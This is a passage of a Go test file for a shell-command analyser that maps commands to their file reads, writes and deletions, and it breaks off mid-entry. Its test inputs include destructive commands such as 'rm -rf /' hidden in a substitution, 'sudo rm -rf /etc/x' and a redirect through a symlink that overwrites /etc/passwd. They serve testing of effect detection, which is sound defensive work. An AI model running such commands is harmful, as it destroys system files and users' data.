package shell

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// structureTests: every compound form is walked: lists, pipelines, subshells, groups, if, loops, case, select, [[ ]], arithmetic, functions, declarations, substitutions..
var structureTests = []testCase{
	{give: "rm a && rm b", want: result{
		Cmds:    []string{"rm a", "rm b"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "rm a || rm b", want: result{
		Cmds:    []string{"rm a", "rm b"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "rm a; rm b", want: result{
		Cmds:    []string{"rm a", "rm b"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "rm a & rm b", want: result{
		Cmds:    []string{"rm a", "rm b"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "cat a | tee b", want: result{
		Cmds:    []string{"cat a", "tee b"},
		Effects: []string{"read /w/a #0 cat operand", "write /w/b #1 tee operand"},
	}},
	{give: "rm a |& tee b", want: result{
		Cmds:    []string{"rm a", "tee b"},
		Effects: []string{"delete /w/a #0 rm operand", "write /w/b #1 tee operand"},
	}},
	{give: "! rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "(rm a)", want: result{
		Cmds:    []string{"subshell: rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "{ rm a; }", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "if rm a; then rm b; elif rm c; then rm d; else rm e; fi", want: result{
		Cmds:    []string{"rm a", "rm b", "rm c", "rm d", "rm e"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand", "delete /w/c #2 rm operand", "delete /w/d #3 rm operand", "delete /w/e #4 rm operand"},
	}},
	{give: "for i in 1 2; do rm a; done", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "for ((i=0; i<$(rm n); i++)); do rm a; done", want: result{
		Cmds:     []string{"$(...): rm n", "rm a"},
		Effects:  []string{"delete /w/n #0 rm operand", "delete /w/a #1 rm operand"},
		Unknowns: []string{"bash evaluates the output of a substitution as arithmetic, which is not known"},
	}},
	{give: "while rm a; do rm b; done", want: result{
		Cmds:    []string{"rm a", "rm b"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "until rm a; do rm b; done", want: result{
		Cmds:    []string{"rm a", "rm b"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "case $x in a) rm a;; *) rm b;; esac", want: result{
		Cmds:    []string{"rm a", "rm b"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "select x in a b; do rm a; done", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "[[ -f $(rm a) ]]", want: result{
		Cmds:    []string{"$(...): rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "(( $(rm a) + 1 ))", want: result{
		Cmds:     []string{"$(...): rm a"},
		Effects:  []string{"delete /w/a #0 rm operand"},
		Unknowns: []string{"bash evaluates the output of a substitution as arithmetic, which is not known"},
	}},
	{give: "let x=$(rm a)", want: result{
		Cmds:     []string{"$(...): rm a", "let x=$(rm a)"},
		Effects:  []string{"delete /w/a #0 rm operand"},
		Unknowns: []string{"bash evaluates the output of a substitution as arithmetic, which is not known"},
	}},
	{give: "time rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "coproc rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "f() { rm a; }; f", want: result{
		Cmds:    []string{"f", "function f: rm a"},
		Effects: []string{"delete /w/a #1 rm operand"},
	}},
	{give: "function g { rm b; }", want: result{
		Cmds:    []string{"function g: rm b"},
		Effects: []string{"delete /w/b #0 rm operand"},
	}},
	{give: "export X=$(rm -rf /)", want: result{
		Cmds:    []string{"$(...): rm -rf /", "export X=$(rm -rf /)"},
		Effects: []string{"delete / -r #0 rm operand"},
	}},
	{give: "local Y=$(rm a)", want: result{
		Cmds:    []string{"$(...): rm a", "local Y=$(rm a)"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "X=$(rm a) ls", want: result{
		Cmds:    []string{"$(...): rm a", "ls"},
		Effects: []string{"delete /w/a #0 rm operand", "read /w #1 ls (working directory)"},
	}},
	{give: "X=$(rm a)", want: result{
		Cmds:    []string{"$(...): rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "echo $(rm a) `rm b`", want: result{
		Cmds:    []string{"$(...): rm a", "$(...): rm b", "echo $(rm a) `rm b`"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "cat <(rm a) >(rm b)", want: result{
		Cmds:    []string{"<(...): rm a", ">(...): rm b", "cat <(rm a) >(rm b)"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "{ echo hi; } > out", want: result{
		Cmds:    []string{"{", "echo hi"},
		Effects: []string{"write /w/out #0 redirect >"},
	}},
	{give: "> out", want: result{
		Cmds:    []string{""},
		Effects: []string{"write /w/out #0 redirect >"},
	}},
	{give: "echo \"${x:-$(rm a)}\"", want: result{
		Cmds:    []string{"$(...): rm a", "echo ${x:-$(rm a)}"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "arr=( $(rm a) )", want: result{
		Cmds:    []string{"$(...): rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "for f in $(rm a); do :; done", want: result{
		Cmds:    []string{"$(...): rm a", ":"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "case $(rm a) in $(rm b)) ;; esac", want: result{
		Cmds:    []string{"$(...): rm a", "$(...): rm b"},
		Effects: []string{"delete /w/a #0 rm operand", "delete /w/b #1 rm operand"},
	}},
	{give: "rm a # rm b", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "cat <<EOF > out.txt\n$(rm x)\nEOF", want: result{
		Cmds:    []string{"$(...): rm x", "cat"},
		Effects: []string{"delete /w/x #0 rm operand", "write /w/out.txt #1 redirect >"},
	}},
	{give: "if true; then\n  rm a\nfi > log", want: result{
		Cmds:    []string{"if", "true", "rm a"},
		Effects: []string{"write /w/log #0 redirect >", "delete /w/a #2 rm operand"},
	}},
	{give: "f() { rm \"$1\"; }; f x; f y", want: result{
		Cmds:     []string{"f x", "function f: rm $1", "f y", "function f: rm $1"},
		Unknowns: []string{"rm's operand comes from an expansion"},
	}},
	{give: "f() { f; rm a; }; f", want: result{
		Cmds:    []string{"f", "function f: f", "function f: rm a"},
		Effects: []string{"delete /w/a #2 rm operand"},
	}},
	{give: "f() ( cd /tmp; rm a ); f; rm b", want: result{
		Cmds:    []string{"f", "function f > subshell: cd /tmp", "function f > subshell: rm a", "rm b"},
		Effects: []string{"delete /tmp/a #2 rm operand", "delete /w/b #3 rm operand"},
	}},
	{give: "rm {a,b}.txt c{1..3}", want: result{
		Cmds:    []string{"rm a.txt b.txt c1 c2 c3"},
		Effects: []string{"delete /w/a.txt #0 rm operand", "delete /w/b.txt #0 rm operand", "delete /w/c1 #0 rm operand", "delete /w/c2 #0 rm operand", "delete /w/c3 #0 rm operand"},
	}},
	{give: "echo {1..100000}", want: result{
		Cmds: []string{"echo {1..100000}"},
	}},
}

func TestStructure(t *testing.T) {
	tests := structureTests
	check(t, tests)
}

// wrappersTests: wrappers are stripped to find the program; their own options that matter (env -C, time -o, sudo -e) are followed..
var wrappersTests = []testCase{
	{give: "sudo rm -rf /etc/x", want: result{
		Cmds:    []string{"rm -rf /etc/x"},
		Effects: []string{"delete /etc/x -r #0 rm operand"},
	}},
	{give: "sudo -u root -E -- rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "sudo -s", want: result{
		Cmds:     []string{"sudo -s"},
		Unknowns: []string{"sudo starts a shell that reads its input"},
	}},
	{give: "sudo -e /etc/hosts", want: result{
		Cmds:    []string{"sudo -e /etc/hosts"},
		Effects: []string{"write /etc/hosts #0 sudo -e operand"},
	}},
	{give: "sudo -l", want: result{
		Cmds: []string{"sudo -l"},
	}},
	{give: "doas -u bob rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "env -i -u B A=1 rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "env -C /srv rm x; rm y", want: result{
		Cmds:    []string{"rm x", "rm y"},
		Effects: []string{"delete /srv/x #0 rm operand", "delete /w/y #1 rm operand"},
	}},
	{give: "env", want: result{
		Cmds: []string{"env"},
	}},
	{give: "env -S 'rm -rf x'", want: result{
		Cmds:    []string{"env -S rm -rf x", "env -S: rm -rf x"},
		Effects: []string{"delete /w/x -r #1 rm operand"},
	}},
	{give: "timeout -s KILL 5 rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "timeout --kill-after=1 5s rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "nice -n 10 rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "nice -10 rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "nohup rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "stdbuf -oL -e 0 rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "ionice -c3 rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "chrt -f 10 rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "taskset -c 0 rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "setsid -f rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "command rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "command -v rm", want: result{
		Cmds: []string{"command -v rm"},
	}},
	{give: "builtin cd /z; rm a", want: result{
		Cmds:    []string{"cd /z", "rm a"},
		Effects: []string{"delete /z/a #1 rm operand"},
	}},
	{give: "exec rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "/usr/bin/time -o t.txt rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"write /w/t.txt #0 time -o", "read /usr/bin/time #0 program run", "execute /usr/bin/time #0 script run", "delete /w/a #0 rm operand"},
	}},
	{give: "caffeinate -i rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "unbuffer rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "flock /tmp/l rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"write /tmp/l #0 flock lock file", "delete /w/a #0 rm operand"},
	}},
	{give: "flock -n /tmp/l -c 'rm a'", want: result{
		Cmds:    []string{"flock -n /tmp/l -c rm a", "flock -c: rm a"},
		Effects: []string{"write /tmp/l #0 flock lock file", "delete /w/a #1 rm operand"},
	}},
	{give: "watch rm a", want: result{
		Cmds:    []string{"watch rm a", "watch: rm a"},
		Effects: []string{"delete /w/a #1 rm operand"},
	}},
	{give: "watch -n 1 -x rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "busybox rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "su -c 'rm a' root", want: result{
		Cmds:    []string{"su -c rm a root", "su -c: rm a"},
		Effects: []string{"delete /w/a #1 rm operand"},
	}},
	{give: "su - root", want: result{
		Cmds:     []string{"su - root"},
		Unknowns: []string{"su starts a shell that reads its input"},
	}},
	{give: "runuser -u app -- rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"delete /w/a #0 rm operand"},
	}},
	{give: "sudo timeout 5 nice env FOO=1 rm -rf x", want: result{
		Cmds:    []string{"rm -rf x"},
		Effects: []string{"delete /w/x -r #0 rm operand"},
	}},
	{give: "systemd-run --working-directory=/srv rm x", want: result{
		Cmds:    []string{"rm x"},
		Effects: []string{"delete /srv/x #0 rm operand"},
	}},
	{give: "strace -f -o tr.txt rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"write /w/tr.txt #0 strace -o", "delete /w/a #0 rm operand"},
	}},
	{give: "uv run --with requests python -c 'print(1)'", want: result{
		Cmds:     []string{"python -c print(1)"},
		Unknowns: []string{"python runs inline code (-c)"},
	}},
	{give: "poetry run rm x", want: result{
		Cmds:    []string{"rm x"},
		Effects: []string{"delete /w/x #0 rm operand"},
	}},
	{give: "bundle exec rm x", want: result{
		Cmds:    []string{"rm x"},
		Effects: []string{"delete /w/x #0 rm operand"},
	}},
	{give: "chroot /jail rm a", want: result{
		Cmds:     []string{"chroot /jail rm a"},
		Unknowns: []string{"chroot runs its command under another root directory"},
	}},
	{give: "/usr/bin/sudo /bin/rm a", want: result{
		Cmds:    []string{"rm a"},
		Effects: []string{"read /usr/bin/sudo #0 program run", "execute /usr/bin/sudo #0 script run", "read /bin/rm #0 program run", "execute /bin/rm #0 script run", "delete /w/a #0 rm operand"},
	}},
}

func TestWrappers(t *testing.T) {
	tests := wrappersTests
	check(t, tests)
}

// cdTrackingTests: cd, pushd and popd are tracked for relative paths; a cd in a subshell, a pipe or a new shell does not leak out..
var cdTrackingTests = []testCase{
	{give: "cd /tmp && rm x", want: result{
		Cmds:    []string{"cd /tmp", "rm x"},
		Effects: []string{"delete /tmp/x #1 rm operand"},
	}},
	{give: "cd /tmp; cd sub; rm x", want: result{
		Cmds:    []string{"cd /tmp", "cd sub", "rm x"},
		Effects: []string{"delete /tmp/sub/x #2 rm operand"},
	}},
	{give: "(cd /tmp; rm a); rm b", want: result{
		Cmds:    []string{"subshell: cd /tmp", "subshell: rm a", "rm b"},
		Effects: []string{"delete /tmp/a #1 rm operand", "delete /w/b #2 rm operand"},
	}},
	{give: "cd $D; rm rel; rm /abs", want: result{
		Cmds:     []string{"cd $D", "rm rel", "rm /abs"},
		Effects:  []string{"delete /abs #2 rm operand"},
		Unknowns: []string{"cd to a directory from an expansion", "rm's operand \"rel\" is relative to a working directory that is not known"},
	}},
	{give: "cd ~; rm x", want: result{
		Cmds:    []string{"cd ~", "rm x"},
		Effects: []string{"delete /home/u/x #1 rm operand"},
	}},
	{give: "cd; rm x", want: result{
		Cmds:    []string{"cd", "rm x"},
		Effects: []string{"delete /home/u/x #1 rm operand"},
	}},
	{give: "cd /a; cd /b; cd -; rm x", want: result{
		Cmds:    []string{"cd /a", "cd /b", "cd -", "rm x"},
		Effects: []string{"delete /a/x #3 rm operand"},
	}},
	{give: "cd ..; rm x", want: result{
		Cmds:    []string{"cd ..", "rm x"},
		Effects: []string{"delete /x #1 rm operand"},
	}},
	{give: "pushd /a; rm x; popd; rm y", want: result{
		Cmds:    []string{"pushd /a", "rm x", "popd", "rm y"},
		Effects: []string{"delete /a/x #1 rm operand", "delete /w/y #3 rm operand"},
	}},
	{give: "pushd /a; pushd /b; popd; rm x", want: result{
		Cmds:    []string{"pushd /a", "pushd /b", "popd", "rm x"},
		Effects: []string{"delete /a/x #3 rm operand"},
	}},
	{give: "if test -d a; then cd a; fi; rm y", want: result{
		Cmds:     []string{"test -d a", "cd a", "rm y"},
		Unknowns: []string{"rm's operand \"y\" is relative to a working directory that is not known"},
	}},
	{give: "cd /a || exit 1; rm x", want: result{
		Cmds:    []string{"cd /a", "exit 1", "rm x"},
		Effects: []string{"delete /a/x #2 rm operand"},
	}},
	{give: "cd /a | rm x", want: result{
		Cmds:    []string{"cd /a", "rm x"},
		Effects: []string{"delete /w/x #1 rm operand"},
	}},
	{give: "cd /a & rm x", want: result{
		Cmds:    []string{"cd /a", "rm x"},
		Effects: []string{"delete /w/x #1 rm operand"},
	}},
	{give: "bash -c 'cd /a'; rm x", want: result{
		Cmds:    []string{"bash -c cd /a", "bash -c: cd /a", "rm x"},
		Effects: []string{"delete /w/x #2 rm operand"},
	}},
	{give: "eval 'cd /a'; rm x", want: result{
		Cmds:    []string{"eval cd /a", "eval: cd /a", "rm x"},
		Effects: []string{"delete /a/x #2 rm operand"},
	}},
	{give: "for d in a b; do cd $d; done; rm x", want: result{
		Cmds:     []string{"cd $d", "cd $d", "rm x"},
		Unknowns: []string{"cd to a directory from an expansion", "rm's operand \"x\" is relative to a working directory that is not known"},
	}},
	{give: "cd /tmp/*; rm x", want: result{
		Cmds:     []string{"cd /tmp/*", "rm x"},
		Effects:  []string{"read /tmp #0 glob directory"},
		Unknowns: []string{"cd to a directory from a glob", "rm's operand \"x\" is relative to a working directory that is not known"},
	}},
	// a repository outside the starting directory brings configuration review does not see
	{give: "git -C /repo rm f", want: result{
		Cmds:     []string{"git -C /repo rm f"},
		Effects:  []string{"read /repo/.git -r #0 git (its repository)", "write /repo/.git/index #0 git rm (the index)", "delete /repo/f #0 git rm"},
		Unknowns: []string{"git runs in /repo, outside the directory the command started in: its repository's configuration can run commands"},
	}},
	{give: "sudo -D /srv rm x", want: result{
		Cmds:    []string{"rm x"},
		Effects: []string{"delete /srv/x #0 rm operand"},
	}},
	{give: "cd ln; rm passwd", want: result{
		Cmds:    []string{"cd ln", "rm passwd"},
		Effects: []string{"delete /etc/passwd #1 rm operand"},
	}},
	{give: "cd up; rm ../x", want: result{
		Cmds:    []string{"cd up", "rm ../x"},
		Effects: []string{"delete /srv/deep/x #1 rm operand"},
	}},
	{give: "rm up/../x", want: result{
		Cmds:    []string{"rm up/../x"},
		Effects: []string{"delete /srv/deep/x #0 rm operand"},
	}},
	{give: "cd \"$(git rev-parse --show-toplevel)\" && rm x", want: result{
		Cmds:     []string{"$(...): git rev-parse --show-toplevel", "cd $(git rev-parse --show-toplevel)", "rm x"},
		Effects:  []string{"read /w/.git -r #0 git (its repository)"},
		Unknowns: []string{"cd to a directory from an expansion", "rm's operand \"x\" is relative to a working directory that is not known"},
	}},
}

func TestCdTracking(t *testing.T) {
	tests := cdTrackingTests
	check(t, tests)
}

// redirectionsTests: redirections are file effects, except descriptors, here-documents and the special files..
var redirectionsTests = []testCase{
	{give: "echo a > o1; echo a >> o2; echo a >| o3; echo a &> o4; echo a &>> o5", want: result{
		Cmds:    []string{"echo a", "echo a", "echo a", "echo a", "echo a"},
		Effects: []string{"write /w/o1 #0 redirect >", "write /w/o2 #1 redirect >>", "write /w/o3 #2 redirect >|", "write /w/o4 #3 redirect &>", "write /w/o5 #4 redirect &>>"},
	}},
	{give: "ls 2> err.log 3> three.log", want: result{
		Cmds:    []string{"ls"},
		Effects: []string{"write /w/err.log #0 redirect 2>", "write /w/three.log #0 redirect 3>", "read /w #0 ls (working directory)"},
	}},
	{give: "sort < in.txt; cat <> rw", want: result{
		Cmds:    []string{"sort", "cat"},
		Effects: []string{"read /w/in.txt #0 redirect <", "read /w/rw #1 redirect <>", "write /w/rw #1 redirect <>"},
	}},
	{give: "cat <<EOF\ntext\nEOF", want: result{
		Cmds: []string{"cat"},
	}},
	{give: "cat <<< \"here string\"", want: result{
		Cmds: []string{"cat"},
	}},
	{give: "echo a >&2; echo b 2>&1; echo c >&-; cat <&3", want: result{
		Cmds: []string{"echo a", "echo b", "echo c", "cat"},
	}},
	{give: "echo a > /dev/null 2>/dev/stderr >/dev/fd/3 > /dev/stdout", want: result{
		Cmds: []string{"echo a"},
	}},
	{give: "echo a >& out.txt", want: result{
		Cmds:    []string{"echo a"},
		Effects: []string{"write /w/out.txt #0 redirect >&"},
	}},
	{give: "echo a > \"$OUT\"", want: result{
		Cmds:     []string{"echo a"},
		Unknowns: []string{"the redirect > path comes from an expansion"},
	}},
	{give: "echo a > ~/log", want: result{
		Cmds:    []string{"echo a"},
		Effects: []string{"write /home/u/log #0 redirect >"},
	}},
	{give: "echo a > *.txt", want: result{
		Cmds:    []string{"echo a"},
		Effects: []string{"write /w/*.txt #0 redirect > (glob)"},
	}},
	{give: "echo a > ln/passwd", want: result{
		Cmds:    []string{"echo a"},
		Effects: []string{"write /etc/passwd #0 redirect >"},
	}},
	{give: "echo a > loop/x", want: result{
		Cmds:     []string{"echo a"},
		Effects:  []string{"write /w/loop/x #0 redirect >"},
		Unknowns: []string{"path could not be resolved: too many levels of symbolic links"},
	}},
	{give: "echo a >&$FD", want: result{
		Cmds:     []string{"echo a"},
		Unknowns: []string{"the redirect >& path comes from an expansion"},
	}},
}

func TestRedirections(t *testing.T) {
	tests := redirectionsTests
	check(t, tests)
}

// programsTests: the program table: one or more cases per program..
var programsTests = []testCase{
	{give: "cat a b - c", want: result{
		Cmds:    []string{"cat a b - c"},
		Effects: []string{"read /w/a #0 cat operand", "read /w/b #0 cat operand", "read /w/c #0 cat operand"},
	}},
	{give: "head -n 5 a; head -5 b; tail -f -n 20 c", want: result{
		Cmds:    []string{"head -n 5 a", "head -5 b", "tail -f -n 20 c"},
		Effects: []string{"read /w/a #0 head operand", "read /w/b #1 head operand", "read /w/c #2 tail operand"},
	}},
	{give: "less -o log.txt big.log; more m.txt", want: result{
		Cmds:    []string{"less -o log.txt big.log", "more m.txt"},
		Effects: []string{"write /w/log.txt #0 less log file", "read /w/big.log #0 less operand", "read /w/m.txt #1 more operand"},
	}},
	{give: "grep -r TODO src; grep -e foo -f pats.txt a b; grep -rn foo", want: result{
		Cmds:    []string{"grep -r TODO src", "grep -e foo -f pats.txt a b", "grep -rn foo"},
		Effects: []string{"read /w/src -r #0 grep operand", "read /w/pats.txt #1 grep pattern file", "read /w/a #1 grep operand", "read /w/b #1 grep operand", "read /w -r #2 grep (working directory)"},
	}},
	{give: "egrep 'a|b' f; fgrep x g; zgrep y h.gz", want: result{
		Cmds:    []string{"egrep a|b f", "fgrep x g", "zgrep y h.gz"},
		Effects: []string{"read /w/f #0 egrep operand", "read /w/g #1 fgrep operand", "read /w/h.gz #2 zgrep operand"},
	}},
	{give: "rg foo; rg -g '*.go' -r bar foo src; rg --files lib; rg --pre ./pp foo", want: result{
		Cmds:     []string{"rg foo", "rg -g *.go -r bar foo src", "rg --files lib", "rg --pre ./pp foo"},
		Effects:  []string{"read /w -r #0 rg (working directory)", "read /w/src -r #1 rg operand", "read /w/lib -r #2 rg operand", "read /w -r #3 rg (working directory)"},
		Unknowns: []string{"rg runs a preprocessor command (--pre)"},
	}},
	{give: "sort -o out.txt in1 in2; sort -k2 -t, data.csv", want: result{
		Cmds:    []string{"sort -o out.txt in1 in2", "sort -k2 -t, data.csv"},
		Effects: []string{"write /w/out.txt #0 sort -o", "read /w/in1 #0 sort operand", "read /w/in2 #0 sort operand", "read /w/data.csv #1 sort operand"},
	}},
	{give: "uniq in.txt out.txt", want: result{
		Cmds:    []string{"uniq in.txt out.txt"},
		Effects: []string{"read /w/in.txt #0 uniq input", "write /w/out.txt #0 uniq output"},
	}},
	{give: "wc -l a b; base64 -d enc > dec; xxd bin out.hex; od -An -tx1 f; hexdump -C h; strings -n 8 bin", want: result{
		Cmds:    []string{"wc -l a b", "base64 -d enc", "xxd bin out.hex", "od -An -tx1 f", "hexdump -C h", "strings -n 8 bin"},
		Effects: []string{"read /w/a #0 wc operand", "read /w/b #0 wc operand", "write /w/dec #1 redirect >", "read /w/enc #1 base64 operand", "read /w/bin #2 xxd input", "write /w/out.hex #2 xxd output", "read /w/f #3 od operand", "read /w/h #4 hexdump operand", "read /w/bin #5 strings operand"},
	}},
	{give: "diff -r a b; diff -u x y; cmp p q; md5sum f1; sha256sum -c sums.txt", want: result{
		Cmds:    []string{"diff -r a b", "diff -u x y", "cmp p q", "md5sum f1", "sha256sum -c sums.txt"},
		Effects: []string{"read /w/a -r #0 diff operand", "read /w/b -r #0 diff operand", "read /w/x #1 diff operand", "read /w/y #1 diff operand", "read /w/p #2 cmp operand", "read /w/q #2 cmp operand", "read /w/f1 #3 md5sum operand", "read /w/sums.txt #4 sha256sum operand"},
	}},
	{give: "file x; stat -c %s y; tac z; nl n; cut -d, -f1 c.csv; paste p1 p2", want: result{
		Cmds:    []string{"file x", "stat -c %s y", "tac z", "nl n", "cut -d, -f1 c.csv", "paste p1 p2"},
		Effects: []string{"read /w/x #0 file operand", "read /w/y #1 stat operand", "read /w/z #2 tac operand", "read /w/n #3 nl operand", "read /w/c.csv #4 cut operand", "read /w/p1 #5 paste operand", "read /w/p2 #5 paste operand"},
	}},
	{give: "jq '.a' data.json; jq -r --arg k v '.[$k]' f.json; jq -n --args '$ARGS' a b; jq -f prog.jq in.json", want: result{
		Cmds:    []string{"jq .a data.json", "jq -r --arg k v .[$k] f.json", "jq -n --args $ARGS a b", "jq -f prog.jq in.json"},
		Effects: []string{"read /w/data.json #0 jq operand", "read /w/f.json #1 jq operand", "read /w/prog.jq #3 jq filter file", "read /w/in.json #3 jq operand"},
	}},
	{give: "awk '{print $1}' f.txt; awk -F: -v x=1 '$1 > 3 {print}' /etc/passwd x=2", want: result{
		Cmds:    []string{"awk {print $1} f.txt", "awk -F: -v x=1 $1 > 3 {print} /etc/passwd x=2"},
		Effects: []string{"read /w/f.txt #0 awk operand", "read /etc/passwd #1 awk operand"},
	}},
	{give: "awk -f prog.awk in; gawk -i inplace '{gsub(/a/,\"b\")}1' f", want: result{
		Cmds:    []string{"awk -f prog.awk in", "gawk -i inplace {gsub(/a/,\"b\")}1 f"},
		Effects: []string{"read /w/prog.awk #0 awk program file", "execute /w/prog.awk #0 awk program file", "read /w/in #0 awk operand", "read /w/f #1 awk operand", "write /w/f #1 awk -i inplace"},
	}},
	{give: "sed 's/a/b/' f; sed -n '1,5p' g; sed -e 's/x/y/' -e 's/p/q/' h", want: result{
		Cmds:    []string{"sed s/a/b/ f", "sed -n 1,5p g", "sed -e s/x/y/ -e s/p/q/ h"},
		Effects: []string{"read /w/f #0 sed operand", "read /w/g #1 sed operand", "read /w/h #2 sed operand"},
	}},
	{give: "sed -i 's/a/b/' f1 f2; sed --in-place=.bak 's/a/b/' g; sed -Ei.orig 's/x/y/g' h", want: result{
		Cmds:    []string{"sed -i s/a/b/ f1 f2", "sed --in-place=.bak s/a/b/ g", "sed -Ei.orig s/x/y/g h"},
		Effects: []string{"read /w/f1 #0 sed operand", "write /w/f1 #0 sed -i", "read /w/f2 #0 sed operand", "write /w/f2 #0 sed -i", "read /w/g #1 sed operand", "write /w/g #1 sed -i", "read /w/h #2 sed operand", "write /w/h #2 sed -i"},
	}},
	{give: "sed 's/a/b/w changed.txt' f; sed '/x/r insert.txt' g; sed '1e date' h; sed 's/a/b/e' i", want: result{
		Cmds:     []string{"sed s/a/b/w changed.txt f", "sed /x/r insert.txt g", "sed 1e date h", "sed s/a/b/e i"},
		Effects:  []string{"write /w/changed.txt #0 sed w", "read /w/f #0 sed operand", "read /w/insert.txt #1 sed r", "read /w/g #1 sed operand", "read /w/h #2 sed operand", "read /w/i #3 sed operand"},
		Unknowns: []string{"sed's script runs commands (e)", "sed's script runs commands (e)"},
	}},
	{give: "cp a b; cp a b c dir; cp -r src dst; cp -t /dst a b; cp -a /src/. /dst/", want: result{
		Cmds:    []string{"cp a b", "cp a b c dir", "cp -r src dst", "cp -t /dst a b", "cp -a /src/. /dst/"},
		Effects: []string{"read /w/a #0 cp source", "write /w/b #0 cp target", "write /w/b/a #0 cp target", "read /w/a #1 cp source", "read /w/b #1 cp source", "read /w/c #1 cp source", "write /w/dir/a #1 cp target", "write /w/dir/b #1 cp target", "write /w/dir/c #1 cp target", "read /w/src -r #2 cp source", "write /w/dst -r #2 cp target", "write /w/dst/src -r #2 cp target", "read /w/a #3 cp source", "read /w/b #3 cp source", "write /dst/a #3 cp target", "write /dst/b #3 cp target", "read /src -r #4 cp source", "write /dst -r #4 cp target"},
	}},
	{give: "install -m 755 bin /usr/local/bin/; install -d /opt/app", want: result{
		Cmds:    []string{"install -m 755 bin /usr/local/bin/", "install -d /opt/app"},
		Effects: []string{"read /w/bin #0 install source", "write /usr/local/bin/bin #0 install target", "write /opt/app #1 install -d operand"},
	}},
	{give: "rsync -av --delete src/ /backup/; rsync -a host:/remote/ local/; rsync --remove-source-files f host:/x", want: result{
		Cmds:    []string{"rsync -av --delete src/ /backup/", "rsync -a host:/remote/ local/", "rsync --remove-source-files f host:/x"},
		Effects: []string{"read /w/src -r #0 rsync source", "write /backup -r #0 rsync target", "delete /backup -r #0 rsync --delete", "write /w/local -r #1 rsync target", "read /w/f #2 rsync source", "delete /w/f #2 rsync --remove-source-files"},
	}},
	{give: "mv a b; mv a b c dir/; mv -t dir x", want: result{
		Cmds:    []string{"mv a b", "mv a b c dir/", "mv -t dir x"},
